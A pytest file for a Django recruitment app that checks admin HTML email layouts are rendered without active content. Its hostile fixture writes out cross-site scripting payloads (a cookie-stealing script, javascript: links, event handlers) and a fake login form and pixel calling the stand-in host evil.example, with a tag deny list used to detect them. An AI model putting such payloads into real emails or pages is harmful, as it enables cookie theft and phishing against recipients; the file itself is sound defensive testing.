"""What an admin's HTML profile can put in front of recipients: a layout, never active content."""

import pytest
from django.urls import reverse

from interviews.communication.merge import sample_values
from interviews.communication.models import HtmlProfile
from interviews.communication.render import render_email
from tests.parsed_html import elements, text

HOSTILE_LAYOUT = """<!doctype html>
<html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<title>{{ subject }}</title><script>steal(document.cookie)</script></head>
<body onload="steal()">
<table class="card"><tr><td>{{ logo }}{{ content }}
<p><a href="javascript:steal()">Your details</a> <a href="data:text/html,steal">Or here</a></p>
<form action="https://evil.example/login" method="post"><input name="password">
<button formaction="https://evil.example/">Log in</button></form>
<img src="x" onerror="steal()"><img src="http://evil.example/pixel.gif" alt="">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object>
<svg onload="steal()"></svg><base href="https://evil.example/">
</td></tr></table>
</body></html>"""
HOSTILE_CSS = ".card { width: 600px; }</style><script>steal()</script><style>p { color: red; }"

BRANDED_LAYOUT = """<!doctype html>
<html><head><meta charset="utf-8"><title>{{ subject }}</title></head>
<body class="page" style="margin: 0">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#f3f5f8">
<tr><td align="center">
<table role="presentation" class="card" width="600" cellpadding="0" cellspacing="0"
       style="border: 1px solid #dfe3e8">
<tr><td class="header">{{ logo }}<span class="brand">Acme Recruitment</span></td></tr>
<tr><td class="content">{{ content }}</td></tr>
<tr><td class="footer">Questions? <a href="mailto:jobs@acme.example">jobs@acme.example</a> or
<a href="https://acme.example/careers">acme.example/careers</a></td></tr>
</table></td></tr></table>
</body></html>"""
BRANDED_CSS = """.header { background: #0b5ed7; padding: 20px 32px; }
.brand { color: #ffffff; font-weight: bold; }
.footer { font-size: 12px; color: #6c757d; }"""
BODY = "<p>Dear {{ recipient_name }},</p><p><strong>See you</strong> on {{ date }}.</p>"

ACTIVE_TAGS = {"script", "form", "input", "button", "iframe", "object", "embed", "svg", "base",
               "link", "style"}


def assert_inert(html: str) -> None:
    found = elements(html)
    assert not {element.tag for element in found} & ACTIVE_TAGS
    assert not [element for element in found if element.tag == "meta"
                and "http-equiv" in element.attrs]
    assert not [name for element in found for name in element.attrs if name.startswith("on")]
    hrefs = [element.attrs["href"] for element in found if "href" in element.attrs]
    assert all(href.startswith(("https://", "http://", "mailto:")) for href in hrefs)
    sources = [element.attrs["src"] for element in found if "src" in element.attrs]
    assert all(source.startswith("https://") for source in sources)
    assert "steal" not in html and "evil.example" not in html


def body_text(html: str) -> str:
    return text(html[html.index("<body"):])


@pytest.fixture
def hostile_profile():
    return HtmlProfile.objects.create(name="Hostile", layout=HOSTILE_LAYOUT, css=HOSTILE_CSS,
                                      logo_url="https://acme.example/logo.png")


@pytest.fixture
def hostile_default(db, hostile_profile):
    HtmlProfile.objects.exclude(pk=hostile_profile.pk).update(is_default=False)
    HtmlProfile.objects.filter(pk=hostile_profile.pk).update(is_default=True)
    return hostile_profile


@pytest.mark.django_db
def test_a_hostile_profile_renders_without_any_active_content(hostile_profile):
    rendered = render_email(subject="Invitation", body=BODY, profile=hostile_profile,
                            values=sample_values())
    assert_inert(rendered.html)
    assert "Dear Sophie Mulder" in text(rendered.html)  # the document itself is still there
    assert [img.attrs["src"] for img in elements(rendered.html, "img") if "src" in img.attrs] == [
        "https://acme.example/logo.png"]


@pytest.mark.django_db
def test_a_branded_layout_arrives_intact():
    profile = HtmlProfile.objects.create(name="Acme", layout=BRANDED_LAYOUT, css=BRANDED_CSS,
                                         logo_url="https://acme.example/logo.png")
    html = render_email(subject="Invitation", body=BODY, profile=profile,
                        values=sample_values()).html
    assert_inert(html)
    [body] = elements(html, "body")
    assert "margin: 0" in body.attrs["style"]
    outer, card = elements(html, "table")
    assert (outer.attrs["width"], outer.attrs["bgcolor"]) == ("100%", "#f3f5f8")
    assert (card.attrs["width"], card.attrs["cellpadding"], card.attrs["cellspacing"]) == (
        "600", "0", "0")
    assert "border: 1px solid #dfe3e8" in card.attrs["style"]
    header = elements(html, "td")[1]
    assert "background: #0b5ed7" in header.attrs["style"]
    [brand] = elements(html, "span")
    assert "color: #ffffff" in brand.attrs["style"] and "font-weight: bold" in brand.attrs["style"]
    [logo] = elements(html, "img")
    assert logo.attrs["src"] == "https://acme.example/logo.png"
    assert [a.attrs["href"] for a in elements(html, "a")] == [
        "mailto:jobs@acme.example", "https://acme.example/careers"]
    assert elements(html, "strong")
    assert "Dear Sophie Mulder, See you on" in text(html)
    assert "Acme Recruitment" in text(html) and "Questions?" in text(html)
    [title] = elements(html, "title")


@pytest.mark.usefixtures("migrated_db")
def test_what_arrives_and_the_previews_are_sanitised_alike(
    recruiter_client, admin_client, hostile_default, registration, make_interview,
    smtp_server, run_worker,
):
    interview = make_interview(registration=registration)
    url = f"/interviews/{interview.pk}/communicate/candidate/"
    form = recruiter_client.get(url).context["form"]
    data = {name: form[name].value() for name in form.fields}
    assert recruiter_client.post(url, data).status_code == 302
    run_worker()
    [received] = smtp_server.messages
    sent = received.get_body(("html",)).get_content()
    assert_inert(sent)
    assert "Jeroen" in text(sent)
    preview = recruiter_client.get(url + "preview/").content.decode()
    assert_inert(preview)
    # The same email, under the preview's To/Subject header.
    assert body_text(sent) in body_text(preview)
    admin_preview = admin_client.get(reverse("admin:interviews_htmlprofile_preview",
                                             args=[hostile_default.pk])).content.decode()
    assert_inert(admin_preview)
